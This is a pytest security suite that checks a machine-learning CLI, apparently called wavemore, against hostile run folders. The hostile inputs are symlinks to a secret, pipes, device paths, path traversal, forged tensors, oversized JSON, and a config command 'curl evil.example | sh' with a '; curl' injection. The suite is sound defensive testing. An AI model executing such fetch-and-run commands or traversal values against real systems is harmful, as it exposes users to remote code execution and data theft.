"""Runs of strangers: whatever is in a folder, each command ends soon, in a few lines, and touches nothing outside.

The forged tensors have valid checksums: their author can compute them.
"""

import json
import os
import resource
import shutil
import signal
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any, NamedTuple

import numpy as np
import pytest
import torch
from torch import Tensor

from wavemore.cli import main
from wavemore.errors import RunError
from wavemore.runs.entry import read_entry
from wavemore.runs.identity import training_digest
from wavemore.runs.run import Run
from wavemore.runs.tensors import read_tensors, write_tensors

pytestmark = pytest.mark.skipif(not Path("/proc/self/statm").exists(), reason="needs Linux")

SECRET = "correct horse battery staple"
LINES = [first + last for first in ("an", "bo", "el", "ju", "mi") for last in ("na", "b", "lia", "y", "ra", "x")]
TEXT = "the cat sat on the mat, and the dog ran. a man had a hat; the hat was red.\n" * 40
FLAGS = {
    "tree": "list.txt --hidden 8 --fuse 2 2 --embedding 4 --steps 4 --num-evals 2",
    "other": "list.txt --hidden 8 --fuse 2 2 --embedding 4 --steps 4 --num-evals 2 --seed 1",
    "student": "list.txt --model mlp --hidden 8 --context 3 --steps 4 --num-evals 2 --teachers runs/tree",
    "carried": "list.txt --from runs/tree --steps 4 --num-evals 2",
    "ngram": "list.txt --model ngram --order 3",
    "text": "text.txt --format text --model lstm --hidden 8 --steps 4 --num-evals 2",
}
RESULTS = ("summary.json", "samples.txt")
WRONG: list[Any] = [
    *(None, True, "", "x" * 50_000, "\ud83d\ude00\u202e\x1b[31m\n\0", "NaN", [], {}, [[]] * 50_000),
    *(-1, 0, 1, 3.5, -0.5, 1e308, -1e308, 10**9, 2**63, 10**4000),
]


MEMORY = 2 << 30
"""Bytes that a command may take."""


class Hang(BaseException):
    pass


class Result(NamedTuple):
    code: int
    out: str
    err: str


Attack = Callable[..., Result]


@pytest.fixture(scope="module")
def trained_runs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("runs")
    (folder / "list.txt").write_text("".join(f"{line}\n" for line in LINES))
    (folder / "text.txt").write_text(TEXT)
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        for name, flags in FLAGS.items():
            assert main(["train", *flags.split(), "--run", f"runs/{name}"]) == 0
    return folder


@pytest.fixture
def runs(trained_runs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder of the runs, in a working folder; beside that is one with a secret."""
    shutil.copytree(trained_runs / "runs", tmp_path / "work" / "runs")
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "secret").write_text(SECRET)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "outside" / "cache"))
    monkeypatch.chdir(tmp_path / "work")
    return Path("runs")


@pytest.fixture
def attack(runs: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> Iterator[Attack]:
    """Run a command, and check that it does no harm."""

    def hang(*_: object) -> None:
        raise Hang

    def run(*words: object) -> Result:
        capfd.readouterr()
        pages = int(Path("/proc/self/statm").read_text().split()[0])
        before = resource.getrlimit(resource.RLIMIT_AS)
        resource.setrlimit(resource.RLIMIT_AS, (pages * resource.getpagesize() + MEMORY, before[1]))
        signal.alarm(120)
        try:
            code = main(list(map(str, words)))
        finally:
            signal.alarm(0)
            resource.setrlimit(resource.RLIMIT_AS, before)
        out, err = capfd.readouterr()
        assert code in (0, 1, 2), words
        assert err.count("\n") <= 12 or code == 0
        assert len(err) < 2_000 or code == 0
        assert SECRET not in out + err
        assert "out of memory" not in err
        for page in Path().glob("*.html"):
            assert SECRET not in page.read_text()
        return Result(code, out, err)

    handler = signal.signal(signal.SIGALRM, hang)
    try:
        yield run
    finally:
        signal.signal(signal.SIGALRM, handler)
    outside = tmp_path / "outside"
    assert {path.name for path in outside.iterdir()} <= {"secret", "cache"}
    assert not [path for path in (outside / "cache").rglob("*") if path.is_file() and SECRET in path.name]
    assert (outside / "secret").read_text() == SECRET


def stop(run: Path) -> None:
    """Make a finished run an unfinished one, which can be resumed."""
    for name in RESULTS:
        (run / name).unlink(missing_ok=True)


def change_json(path: Path, keys: tuple[Any, ...], value: Any) -> None:
    content = record = json.loads(path.read_text())
    for key in keys[:-1]:
        record = record[key]
    record[keys[-1]] = value
    path.write_text(json.dumps(content))


def change_tensors(path: Path, change: Callable[[dict[str, Tensor]], object], **facts: Any) -> None:
    tensors, text = read_tensors(path)
    tensors = {name: value.clone() for name, value in tensors.items()}
    change(tensors)
    write_tensors(path, tensors, json.dumps(json.loads(text) | facts))


def leaves(value: Any, keys: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The keys of everything in some JSON, the containers included."""
    if keys:
        yield keys
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, inner in items:
        yield from leaves(inner, (*keys, key))


def place(path: Path, kind: str, secret: Path) -> None:
    """Put something else in the place of a file."""
    content = path.read_bytes() if path.is_file() else b"{}"
    if path.is_dir():
        shutil.rmtree(path)
    path.unlink(missing_ok=True)
    match kind:
        case "link":
            path.symlink_to(secret)
        case "link to a device":
            path.symlink_to("/dev/zero")
        case "pipe":
            os.mkfifo(path)
        case "folder":
            path.mkdir()
        case "empty":
            path.touch()
        case "half":
            path.write_bytes(content[: len(content) // 2])
        case "sparse":
            path.touch()
            os.truncate(path, 1 << 42)


USES: dict[str, list[tuple[str, ...]]] = {
    "config.json": [("sample", "runs/tree"), ("log", "runs/tree"), ("log", "runs/tree", "--note", "x")],
    "vocabulary.json": [("sample", "runs/tree"), ("score", "runs/tree", "anna")],
    "model.safetensors": [("sample", "runs/tree"), ("compare", "runs/tree", "runs/other")],
    "lines.safetensors": [("sample", "runs/tree", "--new")],
    "state.safetensors": [("train", "--resume", "runs/tree")],
    "metrics.jsonl": [("log", "runs/tree"), ("train", "--resume", "runs/tree")],
    "summary.json": [("score", "runs/tree", "anna"), ("report", "runs/tree")],
    "lock": [("train", "--resume", "runs/tree")],
}


@pytest.mark.parametrize("kind", ["link", "link to a device", "pipe", "folder", "empty", "half", "sparse"])
@pytest.mark.parametrize("name", USES)
def test_only_regular_files_of_some_size_are_opened(attack: Attack, runs: Path, name: str, kind: str) -> None:
    if name in ("metrics.jsonl", "state.safetensors", "lock"):
        stop(runs / "tree")
    secret = Path("../outside/secret").resolve()
    place(runs / "tree" / name, kind, secret)
    for words in USES[name]:
        result = attack(*words)
        if kind not in ("empty", "half") and name not in ("lock", "metrics.jsonl"):
            assert result.code == 1 or words[0] == "log"
            assert name in result.err + result.out
    if kind.startswith("link"):
        assert (runs / "tree" / name).is_symlink()


@pytest.mark.parametrize("kind", ["link", "link to a device", "pipe", "folder", "empty", "half", "sparse"])
def test_first_weights_are_read_from_a_regular_file(attack: Attack, runs: Path, trained_runs: Path, kind: str) -> None:
    carried = runs / "carried"
    change_json(carried / "config.json", ("data", "source"), str(trained_runs / "list.txt"))
    stop(carried)
    (carried / "state.safetensors").unlink()
    place(carried / "initial.safetensors", kind, Path("../outside/secret").resolve())
    result = attack("train", "--resume", carried)
    assert result.code == 1
    assert "initial.safetensors" in result.err


@pytest.mark.parametrize("kind", ["link", "link to a device", "pipe", "folder", "sparse"])
def test_samples_are_no_window_to_other_files(attack: Attack, runs: Path, kind: str) -> None:
    place(runs / "tree" / "samples.txt", kind, Path("../outside/secret").resolve())
    page = Run(runs / "tree")._repr_html_()
    assert SECRET not in page
    assert "samples.txt" in page


def test_planted_temporary_files_are_not_written_through(attack: Attack, runs: Path) -> None:
    for name in ("config.json", "metrics.jsonl", "summary.json", "samples.txt", "model.safetensors"):
        (runs / "tree" / f".{name}.{os.getpid()}.tmp").symlink_to(Path("../outside/secret").resolve())
    assert attack("log", "runs/tree", "--note", "new").code == 0
    assert Run(runs / "tree").config.note == "new"
    stop(runs / "tree")
    assert attack("train", "--resume", "runs/tree").code == 0


def test_folders_that_are_links_are_not_written_to(attack: Attack, runs: Path) -> None:
    stop(runs / "tree")
    (runs / "tree" / "state.safetensors").unlink()
    (runs / "tree" / "tensorboard").symlink_to(Path("../outside").resolve())
    Path("../outside/events.out.tfevents.1").touch()
    assert "tensorboard is a symbolic link" in attack("train", "--resume", "runs/tree", "--tensorboard").err
    assert attack("train", "list.txt", "--run", "runs/tree", "--overwrite").code == 1  # there is no list.txt here
    Run(runs / "tree").delete()
    Path("../outside/events.out.tfevents.1").unlink()


JSON = [("tree", "config.json"), ("tree", "summary.json"), ("tree", "metrics.jsonl"), ("carried", "config.json")]


@pytest.mark.parametrize(("run", "name"), JSON)
def test_every_value_of_the_json_has_a_type_and_a_range(attack: Attack, runs: Path, run: str, name: str) -> None:
    path = runs / run / name
    if name == "metrics.jsonl":
        path.write_text(path.read_text().splitlines()[-1])
        stop(runs / run)
    before = path.read_text()
    accepted = 0
    for keys in list(leaves(json.loads(before))):
        if keys[-1] in range(1, 101):  # one of a list stands for the others
            continue
        for value in WRONG:
            change_json(path, keys, value)
            entry = read_entry(Run(runs / run))
            assert len(entry.problem) < 1_000
            if not entry.problem or entry.unfinished:
                accepted += 1
                assert attack("log", runs / run, "--runs").code == 0
                if name == "config.json" and accepted % 10 == 0:
                    attack("sample", runs / run, "-n", "1")
            path.write_text(before)
    for text in ("[" * 100_000, '{"a":' * 100_000, "null", "1e999", "{}", "\ud800".encode("utf-8", "surrogatepass")):
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
        attack("log", runs / run)


BIG: list[tuple[tuple[Any, ...], Any]] = [
    (("model_config", "hidden"), 20_000),
    (("model_config", "embedding"), 65_536),
    (("model_config", "fuse"), [1] * 100_000),
    (("model_config", "fuse"), [1] * 1_000),
    (("recipe", "batch_size"), 10**9),
    (("recipe", "block_size"), 10**9),
    (("data", "longest_line"), 10**9),
    (("threads",), 10**6),
    (("device",), "meta"),
    (("device",), "privateuseone"),
    (("data", "split_seed"), 10**40),
    (("model",), "ngram"),
    (("model",), "lstm"),
]


@pytest.mark.parametrize(("keys", "value"), BIG)
@pytest.mark.parametrize("words", ["sample", "evaluate", "inspect", "train --resume"])
def test_sizes_are_compared_with_the_files_before_anything_is_built(
    attack: Attack, runs: Path, keys: tuple[Any, ...], value: Any, words: str
) -> None:
    if words == "train --resume":
        stop(runs / "tree")
    change_json(runs / "tree" / "config.json", keys, value)
    with suppress(RunError):  # as the author would, make the state one of this training
        facts = {"training": training_digest(Run(runs / "tree").config)}
        change_tensors(runs / "tree" / "state.safetensors", lambda tensors: None, **facts)
    assert attack(*words.split(), "runs/tree").code == 1


@pytest.mark.slow
def test_a_report_of_very_many_names_and_records(attack: Attack, runs: Path) -> None:
    path = runs / "tree" / "metrics.jsonl"
    record = json.loads(path.read_text().splitlines()[-1])
    names = {f"layers.{number}.w{number}": -3.0 for number in range(20_000)}
    few = dict(list(names.items())[:9_999])
    for ratios in (names, few, {"\u202e<script>": 1.0, "": -1e3}):
        path.write_text(json.dumps(record | {"update_ratios": ratios}) + "\n")
        assert attack("report", "runs/tree").code == 0
        Path("tree.html").unlink()
    path.write_text((json.dumps(record) + "\n") * 20_000)
    assert attack("report", "runs/tree").code == 0
    assert attack("inspect", "runs/tree").code == 0


@pytest.mark.parametrize("value", [1e12, 1e9, 800.0, 0.0, -1e-9])
def test_any_loss_in_its_range_can_be_shown(attack: Attack, runs: Path, value: float) -> None:
    path = runs / "tree" / "summary.json"
    for key in ("train_nats", "val_nats", "leak_free_val_nats", "train_seconds", "parameters", "steps"):
        change_json(path, (key,), min(10**9, int(abs(value))) if key in ("parameters", "steps") else abs(value))
    change_json(path, ("val_line_percentiles",), [value] * 101)
    metrics = runs / "tree" / "metrics.jsonl"
    record = json.loads(metrics.read_text().splitlines()[-1])
    metrics.write_text(json.dumps(record | {"train_nats": value, "val_nats": value, "seconds": abs(value)}) + "\n")
    for words in ("report runs/tree", "log --plot a.png runs/tree", "score runs/tree anna", "log --runs", "log --csv"):
        assert attack(*words.split()).code == 0, words
    assert "nan" not in Run(runs / "tree")._repr_html_()


FACTS: list[Any] = [None, True, -1, 10**9, 10**30, 1e308, float("inf"), -float("inf"), float("nan"), "x", [], {}, 3.5]


@pytest.mark.slow
def test_facts_of_the_state_have_a_type_and_a_range(attack: Attack, runs: Path, trained_runs: Path) -> None:
    stop(runs / "tree")
    change_json(runs / "tree" / "config.json", ("data", "source"), str(trained_runs / "list.txt"))
    path = runs / "tree" / "state.safetensors"
    before = path.read_bytes()
    names = json.loads(read_tensors(path)[1])
    for name in names:
        for value in FACTS:
            change_tensors(path, lambda tensors: None, **{name: value})
            result = attack("train", "--resume", "runs/tree")
            assert result.code == 1 or (name, value) in HARMLESS or name == "best_val_nats", (name, value)
            stop(runs / "tree")
            path.write_bytes(before)
    tensors, _ = read_tensors(path)
    for facts in ("[" * 50_000, "null", "[]", "5", '{"step": 2, "step": []}', "{}", "", "\u202e"):
        write_tensors(path, tensors, facts)
        assert attack("train", "--resume", "runs/tree").code == 1


HARMLESS = [(name, value) for name in ("loss_sum", "distill_sum") for value in (-1, 10**9, 3.5)]


def change_all(change: Callable[[Tensor], Tensor], *endings: str) -> Callable[[dict[str, Tensor]], None]:
    def change_them(tensors: dict[str, Tensor]) -> None:
        for name in tensors:
            if not endings or name.endswith(endings):
                tensors[name] = change(tensors[name])

    return change_them


TENSORS: dict[str, Callable[[dict[str, Tensor]], object]] = {
    "not finite": change_all(lambda value: value * float("nan") if value.is_floating_point() else value),
    "infinite": change_all(lambda value: value + float("inf") if value.is_floating_point() else value),
    "huge": change_all(lambda value: value * 0 + 3e38 if value.is_floating_point() else value),
    "doubles": change_all(Tensor.double),
    "bytes": change_all(lambda value: value.to(torch.uint8)),
    "complex": change_all(lambda value: value.to(torch.complex64)),
    "flat": change_all(Tensor.flatten),
    "one more dimension": change_all(lambda value: value[None]),
    "empty": change_all(lambda value: value.flatten()[:0]),
    "none": lambda tensors: tensors.clear(),
    "one less": lambda tensors: tensors.pop(next(iter(tensors))),
    "one more": lambda tensors: tensors.update(extra=torch.zeros(3)),
    "a long name": lambda tensors: tensors.update({"x\n" * 100_000: torch.zeros(3)}),
}


FILES = [
    *(("tree", stem) for stem in ("model", "lines", "state")),
    *(("ngram", stem) for stem in ("model", "state")),
    ("carried", "initial"),
]


@pytest.mark.parametrize("change", TENSORS)
@pytest.mark.parametrize(("run", "name"), [(run, f"{stem}.safetensors") for run, stem in FILES])
def test_tensors_have_the_names_types_and_shapes_of_the_config(
    attack: Attack, runs: Path, trained_runs: Path, run: str, name: str, change: str
) -> None:
    change_json(runs / run / "config.json", ("data", "source"), str(trained_runs / "list.txt"))
    change_tensors(runs / run / name, TENSORS[change])
    if name in ("state.safetensors", "initial.safetensors"):
        stop(runs / run)
        commands = ["train --resume RUN"]
        if run == "carried":
            (runs / run / "state.safetensors").unlink()
    else:
        commands = ["sample RUN -n 2", "evaluate RUN", "score RUN anna", "compare RUN runs/other", "report RUN"]
    for words in commands[: 1 if name == "lines.safetensors" else 5]:
        result = attack(*words.replace("RUN", f"runs/{run}").split())
        assert result.code == 1 or words.startswith("report") or (name, change) in HARMLESS_TENSORS


HARMLESS_TENSORS = [
    *(("state.safetensors", change) for change in ("none", "huge", "empty")),  # of an ngram, which is counted again
    *(("lines.safetensors", change) for change in ("not finite", "infinite", "huge", "flat", "empty")),  # integers
]


@pytest.mark.parametrize("order", [torch.tensor([3, 1, 2]), torch.tensor([1, 1])])
def test_hashes_are_sorted_and_distinct(attack: Attack, runs: Path, order: Tensor) -> None:
    change_tensors(runs / "tree" / "lines.safetensors", lambda tensors: tensors.update(hashes=order))
    assert "not sorted" in attack("sample", "runs/tree").err


NUMBERS = {"reversed": lambda v: v.flip(0), "negative": lambda v: -v - 1, "huge": lambda v: v + 2**40}
NUMBERS |= {"scaled": lambda v: v * 3, "longer": lambda v: torch.cat([v, v]), "shorter": lambda v: v[1:]}
NUMBERS |= {"least": lambda v: torch.full_like(v, -(2**63) if v.dtype == torch.int64 else -1e300)}
NUMBERS |= {"zero": torch.zeros_like}


@pytest.mark.parametrize("change", NUMBERS)
@pytest.mark.parametrize("table", ["contexts", "starts", "characters", "shares", "backoffs"])
def test_tables_of_an_ngram_point_into_themselves(attack: Attack, runs: Path, table: str, change: str) -> None:
    path = runs / "ngram" / "model.safetensors"
    for level in ("0", "2"):
        before = path.read_bytes()
        change_tensors(path, change_all(NUMBERS[change], f"levels.{level}.{table}"))
        harmless = (level, table, change) in {
            ("0", "contexts", "reversed"),
            ("0", "contexts", "scaled"),
            ("0", "contexts", "zero"),
            ("0", "shares", "reversed"),
            ("0", "backoffs", "reversed"),
        }
        for words in ("sample runs/ngram -n 2", "score runs/ngram anna"):
            assert attack(*words.split()).code == (0 if harmless else 1)
        path.write_bytes(before)


SOURCES = [
    "/dev/zero",
    "/dev/stdin",
    "pipe",
    "../outside/secret",
    "..",
    "",
    "no\0thing",
    "//host/share/x",
    "\\\\host\\x",
]
SOURCES += ["x" * 30_000, "-", "/proc/self/mem", "/proc/kmsg", "~/x", "http://host/x", "sparse"]


@pytest.mark.parametrize("size", [None, 1, 10**12])
@pytest.mark.parametrize("source", SOURCES)
@pytest.mark.parametrize("run", ["tree", "text"])
def test_data_of_a_run_is_opened_only_if_it_can_be_the_right_file(
    attack: Attack, runs: Path, run: str, source: str, size: int | None
) -> None:
    os.mkfifo("pipe")
    Path("sparse").touch()
    os.truncate("sparse", 10**12)
    change_json(runs / run / "config.json", ("data", "source"), source)
    change_json(runs / run / "config.json", ("data", "size"), size)
    if size == 10**12 and source == "sparse":
        return  # a terabyte of zeros is read, as the run says
    result = attack("evaluate", f"runs/{run}")
    assert result.code == 1
    if "host" in source and "http" not in source:
        assert "is on another computer" in result.err
    if size == 1:
        assert "page.html" in attack("report", f"runs/{run}", "-o", "page.html").out


@pytest.mark.parametrize(
    "path", ["/dev/zero", "pipe", "../outside", "", "\\\\host\\x", "//host/x", "no\0thing", "runs/tree/../student"]
)
def test_teachers_are_runs_on_this_computer(attack: Attack, runs: Path, trained_runs: Path, path: str) -> None:
    os.mkfifo("pipe")
    stop(runs / "student")
    config = runs / "student" / "config.json"
    change_json(config, ("data", "source"), str(trained_runs / "list.txt"))
    change_json(config, ("teachers", 0, "run"), path)
    assert attack("train", "--resume", "runs/student").code == 1
    place(runs / "tree" / "model.safetensors", "pipe", Path())
    change_json(config, ("teachers", 0, "run"), str(Path("runs/tree").absolute()))
    assert attack("train", "--resume", "runs/student").code == 1


@pytest.mark.parametrize(
    "command", [["curl", "evil.example", "|", "sh"], ["wavemore"], ["wavemore", "; curl"], ["\u202ewavemore"], [], [""]]
)
def test_only_a_command_of_wavemore_is_offered_for_copying(attack: Attack, runs: Path, command: list[str]) -> None:
    change_json(runs / "tree" / "config.json", ("command",), command)
    assert attack("report", "runs/tree").code == 0
    page = Path("tree.html").read_text()
    assert "curl" not in page
    assert "Repeat this run" not in page


@pytest.mark.parametrize("words", ["train DATA", "train DATA --format text", "inspect --model tree DATA"])
@pytest.mark.parametrize("data", ["/dev/zero", "/dev/urandom", "pipe", "/dev/fd/0"])
def test_pipes_and_devices_as_data(attack: Attack, words: str, data: str) -> None:
    os.mkfifo("pipe")
    result = attack(*words.replace("DATA", data).split())
    assert result.code == 1
    assert "save the data to a file, and give that" in result.err or data == "/dev/fd/0"
    assert not list(Path("../outside").rglob("*.tmp"))


STUDY = {"format": 1, "name": "../../outside/x", "question": "q", "arms": []}


@pytest.mark.parametrize(
    "content", ["{}", "[" * 100_000, json.dumps(STUDY), '{"format": 1e308}', '{"format": "\\u202e"}']
)
def test_the_record_of_a_study(attack: Attack, content: str) -> None:
    folder = Path("studies/s")
    folder.mkdir(parents=True)
    (folder / "study.json").write_text(content)
    assert attack("report", "studies/s").code == 1
    for kind in ("link", "pipe", "folder", "sparse"):
        place(folder / "study.json", kind, Path("../outside/secret").resolve())
        assert attack("report", "studies/s").code == 1


@pytest.mark.parametrize("kind", ["pipe", "link to a device", "folder", "sparse"])
def test_the_file_of_a_study(attack: Attack, kind: str) -> None:
    place(Path("s.toml"), kind, Path())
    assert attack("study", "s.toml").code in (1, 2)


def test_hashes_of_a_real_run_are_sorted(runs: Path) -> None:
    hashes = Run(runs / "tree").line_hashes()
    assert np.array_equal(hashes, np.unique(hashes))
    assert len(hashes) == len(LINES)
